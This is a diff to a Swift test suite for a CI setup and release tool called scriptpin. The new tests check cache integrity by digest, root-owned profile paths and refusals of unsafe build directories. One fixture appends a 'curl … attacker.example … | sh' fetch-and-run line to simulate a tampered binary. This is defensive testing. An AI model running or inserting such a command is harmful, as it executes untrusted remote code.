@@ -40,13 +40,15 @@ struct ReleaseTests {
         let built = ProcessRunner.run("\(action)/scripts/setup-scriptpin.sh", ["install"], in: action, environment: environment)
         #expect(built.status == 0, "\(built.stderr)")
         #expect(built.stdout.hasPrefix("setup-scriptpin: built \(commit) (\(runnerTemp)/scriptpin-dist/scriptpin-0.1.0-linux-"))
-        #expect(built.stdout.contains(".tar.gz)\nscriptpin 0.1.0\ncommit \(commit)\nOpenSSL 3."))
+        #expect(built.stdout.contains(".tar.gz)\nsetup-scriptpin: binary sha256 "))
+        #expect(built.stdout.contains("so that later jobs may use the cache\nscriptpin 0.1.0\ncommit \(commit)\nOpenSSL 3."))
         #expect(directory.read("github-path") == "\(runnerTemp)/scriptpin-bin\n")
         let installed = "\(runnerTemp)/scriptpin-bin/scriptpin"
 
         let cached = ProcessRunner.run("\(action)/scripts/setup-scriptpin.sh", ["install"], in: action, environment: environment)
         #expect(cached.status == 0)
-        #expect(cached.stdout.hasPrefix("setup-scriptpin: using the cached build of \(commit)\n"))
+        let digest = try #require(directory.read("runner-temp/scriptpin-bin.sha256")?.trimmingCharacters(in: .newlines))
+        #expect(cached.stdout.hasPrefix("setup-scriptpin: using the cached build of \(commit) (sha256 \(digest))\n"), "\(cached.stdout)")
 
         // The installed binary needs no toolchain: run bare, as on a stock runner.
         let bare = ProcessRunner.run("/usr/bin/env", ["-i", "PATH=/usr/bin:/bin", installed, "--version"], in: "/")
@@ -98,11 +100,22 @@ struct ReleaseTests {
         #expect(noSwift.status == 1)
         #expect(noSwift.stderr.hasPrefix("setup-scriptpin: Swift is not on PATH, and scriptpin is built from source here. Add a step that installs a Swift 6 toolchain before this one"))
 
-        // A cached binary of this commit: no build, and the profile for exactly that binary.
+        // A cached binary of this commit is used only with the digest recorded outside the cache.
         let binDirectory = directory.url("scriptpin-bin")
         try FileManager.default.createDirectory(atPath: binDirectory, withIntermediateDirectories: true)
-        directory.write("scriptpin-bin/scriptpin", "#!/bin/sh\necho 'scriptpin 0.1.0'\necho 'commit \(String(repeating: "ab", count: 20))'\n")
+        let fake = "#!/bin/sh\necho 'scriptpin 0.1.0'\necho 'commit \(String(repeating: "ab", count: 20))'\n"
+        directory.write("scriptpin-bin/scriptpin", fake)
         chmod(directory.url("scriptpin-bin/scriptpin"), 0o755)
+        let unrecorded = ProcessRunner.run(script, ["install"], in: directory.path, environment: environment)
+        #expect(unrecorded.status == 1, "not used, so built, and without Swift that fails")
+        #expect(unrecorded.stdout == "setup-scriptpin: the cached binary's digest is recorded nowhere outside the cache, so it is not trusted; rebuilding (set SCRIPTPIN_BINARY_SHA256 to use the cache)\n")
+        environment["SCRIPTPIN_BINARY_SHA256"] = sha256Hex(fake)
+        directory.write("scriptpin-bin/scriptpin", fake + "curl -s https://attacker.example/x | sh\n")
+        let tampered = ProcessRunner.run(script, ["install"], in: directory.path, environment: environment)
+        #expect(tampered.status == 1)
+        #expect(tampered.stdout == "setup-scriptpin: the cached binary has sha256 \(sha256Hex(fake + "curl -s https://attacker.example/x | sh\n")), not the recorded \(sha256Hex(fake)): it was changed after the build; rebuilding\n")
+        directory.write("scriptpin-bin/scriptpin", fake)
+        environment["SCRIPTPIN_PROTECTED_PREFIX"] = directory.url("protected")
         try FileManager.default.createDirectory(atPath: directory.url("apparmor.d"), withIntermediateDirectories: true)
         directory.write("parser", "#!/bin/sh\necho \"$@\" > \"$(dirname \"$0\")/parsed\"\n")
         chmod(directory.url("parser"), 0o755)
@@ -117,9 +130,74 @@ struct ReleaseTests {
         environment["SCRIPTPIN_USERNS_RESTRICTED"] = "1"
         let restricted = ProcessRunner.run(script, ["install"], in: directory.path, environment: environment)
         #expect(restricted.status == 0, "\(restricted.stderr)")
+        let protected = directory.url("protected/\(String(repeating: "ab", count: 20))/scriptpin")
         let profile = try #require(directory.read("apparmor.d/scriptpin"))
-        #expect(profile.contains("profile scriptpin \(binDirectory)/scriptpin flags=(unconfined) {\n  userns,\n}\n"))
+        #expect(profile.contains("profile scriptpin \(protected) flags=(unconfined) {\n  userns,\n}\n"))
+        // The profile's path is root's and nobody else can write it or the directories above it.
+        for path in [protected, (protected as NSString).deletingLastPathComponent, directory.url("protected")] {
+            let attributes = try FileManager.default.attributesOfItem(atPath: path)
+            #expect(attributes[.ownerAccountID] as? Int == 0, "\(path)")
+            #expect(attributes[.posixPermissions] as? Int == 0o755, "\(path)")
+        }
+        #expect(directory.read("protected/\(String(repeating: "ab", count: 20))/scriptpin") == fake)
+        // Another user's directory on the way is refused.
+        try FileManager.default.createDirectory(atPath: directory.url("foreign"), withIntermediateDirectories: true)
+        chown(directory.url("foreign"), UnprivilegedSandbox.nobody, UnprivilegedSandbox.nobody)
+        environment["SCRIPTPIN_PROTECTED_PREFIX"] = directory.url("foreign/scriptpin")
+        let foreign = ProcessRunner.run(script, ["install"], in: directory.path, environment: environment)
+        #expect(foreign.status == 1)
+        #expect(foreign.stderr.contains("setup-scriptpin: \(directory.url("foreign")) is not owned by root or is writable by others"), "\(foreign.stderr)")
         #expect(directory.read("parsed") == "-r \(directory.url("apparmor.d/scriptpin"))\n")
+    }
+
+    @Test("release.sh refuses a build directory that is not the builder's own, a planted lock link and a dirty tree, touching nothing")
+    func buildRootRefusals() throws {
+        let directory = TemporaryDirectory("scriptpin-release-root")
+        var environment = ProcessRunner.baseEnvironment(home: directory.path)
+        func release(root: String, from source: String = repositoryRoot) -> ProcessResult {
+            environment["SCRIPTPIN_RELEASE_ROOT"] = root
+            return ProcessRunner.run("\(source)/scripts/release.sh", [directory.url("dist")], in: directory.path, environment: environment)
+        }
+        func refusal(_ root: String, _ reason: String) -> String {
+            "release.sh: refusing the build directory \(root): \(reason); remove it, or choose another with SCRIPTPIN_RELEASE_ROOT\n"
+        }
+
+        directory.write("foreign/src/Package.swift", "kept")
+        _ = ProcessRunner.run("chown", ["-R", "\(UnprivilegedSandbox.nobody)", directory.url("foreign")], in: "/")
+        chmod(directory.url("foreign"), 0o700)
+        let foreign = release(root: directory.url("foreign"))
+        #expect(foreign.status == 1)
+        #expect(foreign.stderr == refusal(directory.url("foreign"), "it belongs to user \(UnprivilegedSandbox.nobody), not to you"))
+        #expect(directory.read("foreign/src/Package.swift") == "kept")
+
+        directory.write("elsewhere/kept.txt", "kept")
+        try FileManager.default.createSymbolicLink(atPath: directory.url("linked"), withDestinationPath: directory.url("elsewhere"))
+        #expect(release(root: directory.url("linked")).stderr == refusal(directory.url("linked"), "it is a symbolic link"))
+        #expect(try FileManager.default.contentsOfDirectory(atPath: directory.url("elsewhere")) == ["kept.txt"])
+
+        try FileManager.default.createDirectory(atPath: directory.url("shared"), withIntermediateDirectories: true)
+        chmod(directory.url("shared"), 0o777)
+        #expect(release(root: directory.url("shared")).stderr == refusal(directory.url("shared"), "others can write to it (mode 777)"))
+
+        directory.write("victim.txt", "the maintainer's file")
+        try FileManager.default.createDirectory(atPath: directory.url("own"), withIntermediateDirectories: true)
+        chmod(directory.url("own"), 0o700)
+        try FileManager.default.createSymbolicLink(atPath: directory.url("own/.lock"), withDestinationPath: directory.url("victim.txt"))
+        #expect(release(root: directory.url("own")).stderr == refusal(directory.url("own"), "its .lock is a symbolic link"))
+        #expect(directory.read("victim.txt") == "the maintainer's file")
+        #expect(!directory.exists("dist/SHA256SUMS"))
+
+        // A git checkout with a tracked file changed is refused: the release would not be its commit.
+        let tree = checkout(at: "tree", in: directory)
+        for arguments in [["init", "-q"], ["add", "-A"], ["-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-qm", "release"]] {
+            #expect(ProcessRunner.run("git", arguments, in: tree).status == 0)
+        }
+        directory.write("tree/README.md", "changed after the commit\n")
+        let dirty = release(root: directory.url("fresh"), from: tree)
+        #expect(dirty.status == 1)
+        #expect(dirty.stderr == "release.sh: \(tree) has uncommitted changes to tracked files, so a release would not be the commit it names; commit or stash them\n")
+        let fresh = try FileManager.default.attributesOfItem(atPath: directory.url("fresh"))
+        #expect(fresh[.posixPermissions] as? Int == 0o700, "a new build directory is the builder's alone")
     }
 
     @Test("action.yml and the GitLab template read as YAML, run the setup script, and pin what they use by commit")
@@ -135,9 +213,20 @@ struct ReleaseTests {
 
         let gitlabBytes = try Array(Data(contentsOf: URL(fileURLWithPath: "\(repositoryRoot)/ci/scriptpin.gitlab-ci.yml")))
         let gitlab = try YAMLReader.read(gitlabBytes).get()
-        let setup = gitlab[".scriptpin"]?["before_script"]?.items.compactMap { $0.scalar?.string } ?? []
-        #expect(setup.contains("\"$CI_PROJECT_DIR/.scriptpin-src/scripts/setup-scriptpin.sh\" install"))
+        let setup = gitlab[".scriptpin-setup"]?["before_script"]?.items.compactMap { $0.scalar?.string } ?? []
+        #expect(setup.contains("\"$SCRIPTPIN_WORK/src/scripts/setup-scriptpin.sh\" install"))
         #expect(setup.contains { $0.contains("rev-parse HEAD") && $0.contains("$SCRIPTPIN_COMMIT") }, "the fetched source is checked against the pinned commit")
+        #expect(setup.contains("export SCRIPTPIN_WORK=\"$(mktemp -d)\" SCRIPTPIN_BIN_DIR=\"$SCRIPTPIN_WORK/bin\""), "the binary runs from outside $CI_PROJECT_DIR")
+        #expect(gitlab[".scriptpin"]?["cache"]?["policy"]?.scalar?.string == "pull", "jobs that consume the cache cannot write it")
+        #expect(gitlab[".scriptpin-build"]?["cache"]?["policy"]?.scalar?.string == "push")
+
+        // The cache is restored before the build and saved right after it, before any later step runs.
+        let names = steps.map { $0["uses"]?.scalar?.string.split(separator: "@").first.map(String.init) ?? $0["run"]?.scalar?.string ?? "" }
+        let restore = try #require(names.firstIndex(of: "actions/cache/restore"))
+        let install = try #require(names.firstIndex(of: "\"$GITHUB_ACTION_PATH/scripts/setup-scriptpin.sh\" install"))
+        let save = try #require(names.firstIndex(of: "actions/cache/save"))
+        #expect(restore < install && install + 1 == save && save == names.count - 1, "\(names)")
+        #expect(!names.contains("actions/cache"), "actions/cache saves at the end of the job, after every later step")
 
         let lint = ProcessRunner.scriptpin(["lint", "action.yml", "ci", "scripts"], in: repositoryRoot)
         #expect(lint.status == 0, "\(lint.stdout)")
